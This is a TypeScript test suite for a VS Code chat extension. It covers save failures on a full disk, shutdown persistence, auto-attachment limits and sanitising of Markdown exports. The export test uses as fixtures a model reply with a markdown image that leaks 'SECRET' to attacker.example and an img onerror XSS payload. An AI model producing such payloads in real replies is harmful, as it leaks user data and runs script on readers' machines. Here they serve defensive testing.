// Nothing the user wrote or the model answered is lost, in a real VS Code:
// a save that fails (a full disk) keeps the message, the draft and the
// attachments, says so in the chat (role=alert), and leaves the chat usable;
// a reply whose save failed is kept and saved at the next step; closing the
// window waits for the draft and the reply in progress; the current file is
// attached automatically only when it is a file of the workspace; and Export
// to Markdown neutralises what the model wrote.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as fsp from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { nodeFileOps, type FileOps } from '../../src/core/chat/files';
import type { HostToWebview } from '../../src/core/chat/protocol';
import { chatFixture, resetChatSettings, workspaceFile, type ChatFixture } from './chatHelpers';
import { waitFor } from './helpers';

/** File operations whose writes fail with ENOSPC while `full` is set. */
function diskThatFills(): { ops: FileOps; full: boolean } {
  const disk = { full: false, ops: undefined as unknown as FileOps };
  disk.ops = {
    ...nodeFileOps,
    open: (async (file: string, flags: string) => {
      if (disk.full && flags === 'w') throw Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
      return fsp.open(file, flags);
    }) as FileOps['open'],
  };
  return disk;
}

describe('chat: nothing is lost', function () {
  this.timeout(40_000);
  let f: ChatFixture | undefined;
  const others: { dispose(): void }[] = [];

  afterEach(async () => {
    for (const c of others.splice(0)) c.dispose();
    await f?.close();
    f = undefined;
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await resetChatSettings();
  });

  it('a failed save keeps the message, draft and attachments, says so, and the chat stays usable', async () => {
    f = await chatFixture({ reply: 'Saved at last.' });
    const disk = diskThatFills();
    const c = f.api.chat.openAnotherController({ fileOps: disk.ops });
    others.push(c);
    await c.ready;
    await c.newChat();
    const posts: HostToWebview[] = [];
    const sub = c.onDidPost((m) => posts.push(m));
    try {
      assert.ok(await f.api.chat.attachments.addFile(workspaceFile('src/format.ts')));
      const chips = f.api.chat.attachments.chips().map((chip) => chip.id);
      const requests = f.routes.requests.length;
      disk.full = true;
      await c.handle({ type: 'send', text: 'Keep this question', attachmentIds: chips });
      assert.match(
        c.state().problem ?? '',
        /could not save your message \(the disk is full\), so it was not sent; it is back in the message box/,
      );
      assert.ok(
        posts.some((m) => m.type === 'draft' && m.text === 'Keep this question'),
        'the text goes back into the message box',
      );
      assert.equal(c.state().draft, 'Keep this question');
      assert.deepEqual(
        f.api.chat.attachments.chips().map((chip) => chip.id),
        chips,
        'the attachments stay',
      );
      assert.equal(f.routes.requests.length, requests, 'nothing was sent to the model');
      assert.equal(c.current.messages.length, 0);

      // The disk has room again: the same message goes through, and the problem is gone.
      disk.full = false;
      await c.handle({ type: 'send', text: 'Keep this question', attachmentIds: chips });
      assert.deepEqual(
        c.current.messages.map((m) => m.content),
        ['Keep this question', 'Saved at last.'],
      );
      assert.equal(c.state().problem, undefined);
      assert.deepEqual(f.api.chat.attachments.chips(), [], 'the attachments went with the saved message');
      assert.equal(c.state().draft, '');

      // The reply's save fails: the reply stays here, the chat is usable, and the next step saves it.
      f.routes.script = { reply: 'An answer worth keeping.', chunks: 10, delayMs: 20 };
      const fill = c.onDidPost((m) => {
        if (m.type === 'delta') disk.full = true;
      });
      await c.send('Second question');
      fill.dispose();
      const id = c.current.id;
      assert.equal(c.current.messages.at(-1)?.content, 'An answer worth keeping.');
      assert.match(c.state().problem ?? '', /could not save the reply \(the disk is full\)\. It is kept here/);
      await c.newChat(); // still works (the reply is kept in memory)
      await c.switchTo(id);
      assert.equal(c.current.messages.at(-1)?.content, 'An answer worth keeping.', 'the unsaved reply is still there');
      disk.full = false;
      await c.newChat();
      assert.equal(c.state().problem, undefined, 'saved at the next step');
      const onDisk = JSON.parse(fs.readFileSync(path.join(f.api.chat.storageDir.fsPath, `${id}.json`), 'utf8'));
      assert.equal(onDisk.messages.at(-1).content, 'An answer worth keeping.');
    } finally {
      sub.dispose();
    }
  });

  it('closing the window waits for the draft and the reply in progress', async () => {
    f = await chatFixture({ reply: 'word '.repeat(300), chunks: 300, delayMs: 15 });
    const c = f.api.chat.openAnotherController();
    others.push(c);
    await c.ready;
    await c.newChat();
    const sending = c.send('A long story, please');
    await waitFor('part of the reply', () => (c.state().current?.messages[1]?.content.length ?? 0) > 20);
    const id = c.current.id;
    await c.handle({ type: 'draftChanged', text: 'typed while it answered' });
    await c.shutdown();
    await sending;

    const again = f.api.chat.openAnotherController();
    others.push(again);
    await again.ready;
    await again.switchTo(id);
    const reply = again.current.messages[1];
    assert.ok(reply.content.startsWith('word word'), `the reply so far is on disk (${reply.content.length} characters)`);
    assert.equal(reply.stopped, true);
    assert.equal(again.state().draft, 'typed while it answered');
  });

  it('attaches the current file automatically only when it is a file of the workspace', async () => {
    f = await chatFixture({ reply: 'ok' });
    const outside = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-outside-')), 'bashrc.txt');
    fs.writeFileSync(outside, 'export TOKEN=not-a-real-token-from-outside\n');
    let asked = 0;
    f.api.chat.ui.confirm = async () => {
      asked++;
      return true;
    };
    try {
      const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(vscode.Uri.file(outside)));
      await waitFor('the outside file to be the current file', () => vscode.window.activeTextEditor === editor);
      assert.equal(
        f.api.chat.attachments.currentFile(),
        'bashrc.txt',
        `active: ${vscode.window.activeTextEditor?.document.uri.toString()}`,
      );
      await f.api.chat.controller.handle({ type: 'toggleCurrentFile', on: true });
      await f.api.chat.controller.send('what is in my file?');
      assert.ok(!JSON.stringify(f.routes.last.messages).includes('not-a-real-token-from-outside'), 'not sent');
      assert.equal(asked, 0, 'automatic context never asks');
      const notes = f.api.chat.controller.current.messages.at(-1)?.notes ?? [];
      const a = f.api.chat.attachments;
      assert.ok(
        notes.some((n) => /bashrc\.txt was not attached automatically: it is not a file of this workspace/.test(n)),
        `${JSON.stringify(notes)}; toggle ${a.includeCurrentFile}; current ${a.currentFile()}; ` +
          `active ${vscode.window.activeTextEditor?.document.uri.toString()}; messages ${JSON.stringify(f.api.chat.controller.current.messages.map((m) => m.content.slice(0, 40)))}`,
      );
      // An untitled document is the user's own scratch text: it goes.
      await vscode.window.showTextDocument(
        await vscode.workspace.openTextDocument({ content: 'scratch notes 123', language: 'plaintext' }),
      );
      await f.api.chat.controller.send('and this?');
      assert.ok(JSON.stringify(f.routes.last.messages).includes('scratch notes 123'));
    } finally {
      await f.api.chat.controller.handle({ type: 'toggleCurrentFile', on: false });
      fs.rmSync(path.dirname(outside), { recursive: true, force: true });
    }
  });

  it('exports to Markdown with images as links, HTML escaped and reasoning fenced', async () => {
    const reply =
      'See ![chart](https://attacker.example/?d=SECRET) and <img src=x onerror=alert(1)>.\n\n```html\n<b>code stays</b>\n```\n\nInline `<i>kept</i>` too.';
    f = await chatFixture({ reply, reasoning: 'thinking <script>x</script>', reasoningStyle: 'field' });
    await f.api.chat.controller.send('Export me');
    const target = vscode.Uri.file(path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-export-')), 'chat.md'));
    f.api.chat.ui.saveTarget = async () => target;
    await f.api.chat.controller.handle({ type: 'exportConversation', id: f.api.chat.controller.current.id });
    const text = fs.readFileSync(target.fsPath, 'utf8');
    assert.ok(text.includes('See [🖼 chart](https://attacker.example/?d=SECRET)'), 'the image is a link');
    assert.ok(!/!\[chart\]/.test(text));
    assert.ok(text.includes('&lt;img src=x onerror=alert(1)>'), 'raw HTML is escaped');
    assert.ok(text.includes('```html\n<b>code stays</b>\n```'), 'code blocks are verbatim');
    assert.ok(text.includes('Inline `<i>kept</i>` too.'), 'inline code is verbatim');
    assert.ok(text.includes('**Reasoning**\n\n```text\nthinking <script>x</script>\n```'), 'reasoning is fenced');
    assert.ok(!text.includes('<details>'));
    fs.rmSync(path.dirname(target.fsPath), { recursive: true, force: true });
  });
});
